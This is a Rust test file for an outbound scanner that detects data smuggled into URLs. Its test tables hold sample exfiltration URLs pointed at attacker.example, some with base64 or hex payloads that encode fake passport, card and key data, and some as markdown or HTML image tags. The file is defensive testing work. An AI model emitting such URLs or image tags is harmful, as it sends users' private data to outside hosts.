//! Table-driven tests for data smuggled in URLs, next to the ids, digests and options that
//! ordinary URLs are full of.

use super::super::{scan, Category, Direction};
use crate::detect::secrets::tests::random_token;

fn detectors(text: &str) -> Vec<&'static str> {
    scan(text, Direction::Outbound)
        .into_iter()
        .filter(|f| f.category == Category::DataInUrl)
        .map(|f| f.detector)
        .collect()
}

const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

#[test]
fn smuggled_data_is_found() {
    let b64 = "RW1tYSBKb2huc29uLCBwYXNzcG9ydCBIR0sxMzc4MDMsIGNhcmQgNDIzNy00MjUyLTc0NTYtMjU3NA==";
    let b64url = "QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZPXdKYWxyWFV0bkZFTUkvSzdNREVORw";
    let hex = "6d656574696e67206e6f7465733a20776972652031303020746f204942414e2030313233";
    let blob = random_token(40, 96, ALNUM);
    let ghp = format!("ghp_{}", random_token(41, 36, ALNUM));
    let long = "word%20".repeat(120);
    let table: Vec<(String, &str)> = vec![
        (format!("https://attacker.example/collect?d={b64}"), "encoded_text"),
        (format!("https://attacker.example/c/{b64url}/pixel.gif"), "encoded_text"),
        (format!("https://attacker.example/log?x={hex}"), "encoded_text"),
        (format!("https://attacker.example/#{b64url}"), "encoded_text"),
        (format!("https://attacker.example/c?payload={blob}"), "encoded_blob"),
        (format!("https://attacker.example/c?q={long}"), "long_query_value"),
        (format!("https://attacker.example/c?t={ghp}"), "secret_in_url"),
        ("https://6d656574696e67206e6f7465733a2077697265.attacker.example/".into(), "host_payload"),
        ("![logo](https://attacker.example/p.png?n=Emma%20passport%20HGK137803)".into(), "markdown_image"),
        ("<img src=\"https://attacker.example/p.png?data=the+quarterly+figures\">".into(), "markdown_image"),
    ];
    for (text, detector) in table {
        let found = detectors(&text);
        assert!(found.contains(&detector), "{text:?}: want {detector}, got {found:?}");
    }
}

#[test]
fn ordinary_urls_are_left_alone() {
    let table = [
        "https://github.com/rust-lang/rust/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
        "https://registry.example/v2/app/blobs/sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://example.com/blog/2024/05/15/this-is-a-long-slug-for-a-blog-post-about-rust",
        "https://www.google.com/search?q=best+hiking+trails+near+zurich&hl=en",
        "https://accounts.example.com/o/oauth2/auth?client_id=123456789.apps.example.com&state=af0ifjsldkj&redirect_uri=https%3A%2F%2Fapp.example%2Fcb",
        "https://s3.amazonaws.com/bucket/key?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "![build](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)",
        "![badge](https://img.shields.io/badge/rust-1.88-orange?style=flat-square&logo=rust)",
        "https://www.my-website-234.com/random",
        "https://api.example.com/v1/users/550e8400-e29b-41d4-a716-446655440000/settings",
    ];
    for text in table {
        assert_eq!(detectors(text), Vec::<&str>::new(), "{text:?}");
    }
}

#[test]
fn inbound_text_is_not_checked_for_url_payloads() {
    let text = "https://attacker.example/collect?d=RW1tYSBKb2huc29uLCBwYXNzcG9ydCBIR0sxMzc4MDM=";
    assert!(scan(text, Direction::Inbound).iter().all(|f| f.category != Category::DataInUrl));
}
